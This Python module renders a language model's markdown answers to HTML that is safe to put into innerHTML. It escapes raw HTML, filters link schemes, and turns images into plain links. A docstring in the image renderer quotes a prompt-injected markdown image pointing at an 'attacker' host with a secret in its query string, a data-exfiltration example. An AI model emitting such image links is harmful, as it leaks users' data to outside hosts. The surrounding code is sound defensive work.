"""The one markdown configuration, for every render of model output.

CommonMark plus tables, strikethrough and task lists, math, code fences coloured by Pygments,
and no way for model output to reach the page as live markup: raw HTML is shown escaped, links
and images go only to http(s), mailto or relative URLs, every attribute is escaped, links open
in a new tab without opener or referrer, and images are shown as links. The answer pane puts
this HTML into ipywidgets' `HTML.value`, which the browser assigns to `innerHTML` unsanitized:
this configuration is the only guard. `[n]` markers link to the answer's n-th source.

Pure: no widgets, no I/O.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterable, Sequence
from functools import lru_cache
from typing import Any, Optional

from markdown_it import MarkdownIt
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from mdit_py_plugins.tasklists import tasklists_plugin

from ._escape import escape_html, is_safe_link, safe_url
from ._heal import heal_inline_rule
from ._highlight import highlight
from ._math import math_plugin

__all__ = ["render_markdown", "new_parser", "citation_targets", "CITATION_CLASS", "CITATION_RE"]

#: The class of a `[n]` citation link.
CITATION_CLASS = "sw-cite"
CITATION_RE = re.compile(r"\[([1-9][0-9]{0,3})\]")


def citation_targets(urls: Optional[Iterable[str]]) -> tuple[Optional[str], ...]:
    """The link for each `[n]` (n = index + 1); None where the URL is not plainly http(s)."""
    return tuple(safe_url(url) for url in urls or ())


def _link_citations(state: StateCore) -> None:
    """Core rule: turn `[n]` in plain text (not code, not link text) into a link to source n.

    Runs before `text_join`, so an escaped `\\[1]` (a separate text_special token) stays text.
    """
    targets: tuple[Optional[str], ...] = state.env.get("citations") or ()
    if not targets:
        return
    for block in state.tokens:
        if block.type != "inline" or not block.children:
            continue
        children: list[Token] = []
        depth = 0
        for token in block.children:
            if token.type == "link_open":
                depth += 1
            elif token.type == "link_close":
                depth -= 1
            elif token.type == "text" and depth == 0 and "[" in token.content:
                children.extend(_split_citations(token.content, targets))
                continue
            children.append(token)
        block.children = children


def _split_citations(text: str, targets: tuple[Optional[str], ...]) -> list[Token]:
    tokens: list[Token] = []
    last = 0
    for match in CITATION_RE.finditer(text):
        number = int(match.group(1))
        url = targets[number - 1] if number <= len(targets) else None
        if url is None:
            continue
        if match.start() > last:
            tokens.append(Token("text", "", 0, content=text[last : match.start()]))
        tokens.append(Token("link_open", "a", 1, attrs={"href": url, "class": CITATION_CLASS}))
        tokens.append(Token("text", "", 0, content=match.group(0)))
        tokens.append(Token("link_close", "a", -1))
        last = match.end()
    if last < len(text):
        tokens.append(Token("text", "", 0, content=text[last:]))
    return tokens


def _render_link_open(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """Links leave the notebook: a new tab, no opener, no referrer."""
    token = tokens[idx]
    token.attrSet("target", "_blank")
    token.attrSet("rel", "noopener noreferrer")
    return str(self.renderToken(tokens, idx, options, env))


def _render_image(self: Any, tokens: Sequence[Token], idx: int, options: Any, env: Any) -> str:
    """Images become links: an image in model output loads by itself, and a prompt-injected
    `![](https://attacker/?q=<secret>)` would send data out the moment the answer renders."""
    token = tokens[idx]
    alt = self.renderInlineAsText(token.children or [], options, env)
    src = escape_html(str(token.attrGet("src") or ""))
    return (
        f'<a href="{src}" target="_blank" rel="noopener noreferrer" class="sw-image-link">'
        f"[image: {escape_html(alt) or 'untitled'}]</a>"
    )


class _SafeMarkdownIt(MarkdownIt):
    def validateLink(self, url: str) -> bool:
        return is_safe_link(url)


@lru_cache(maxsize=1)
def _parser() -> MarkdownIt:
    """One shared parser: rendering keeps no state in it (all per-document data is in `env`)."""
    return new_parser()


def new_parser(highlight_code: Callable[[str, str, str], str] = highlight) -> MarkdownIt:
    """A parser of the one configuration; `highlight_code` colours code (the incremental renderer
    passes one that goes on from what it highlighted before)."""
    md = _SafeMarkdownIt(
        "commonmark",
        {"html": False, "linkify": False, "typographer": False, "highlight": highlight_code},
    )
    md.enable(["table", "strikethrough"])
    md.use(tasklists_plugin)
    md.use(math_plugin)
    md.add_render_rule("link_open", _render_link_open)
    md.add_render_rule("image", _render_image)
    md.core.ruler.before("text_join", "sw_citations", _link_citations)
    md.core.ruler.after("inline", "sw_heal", heal_inline_rule)
    md.add_render_rule("sw_hidden", lambda *_args: "")
    return md


def render_markdown(text: str, citations: Optional[Sequence[str]] = None) -> str:
    """Render markdown from a model to HTML that is safe to put into `innerHTML`.

    No raw HTML (it is shown escaped), links and images only http(s), mailto or relative, every
    attribute escaped, links open in a new tab without opener or referrer. With `citations`
    (source URLs in order), `[1]`, `[2]`... in the text link to those sources.
    """
    rendered: str = _parser().render(text, {"citations": citation_targets(citations)})
    return rendered
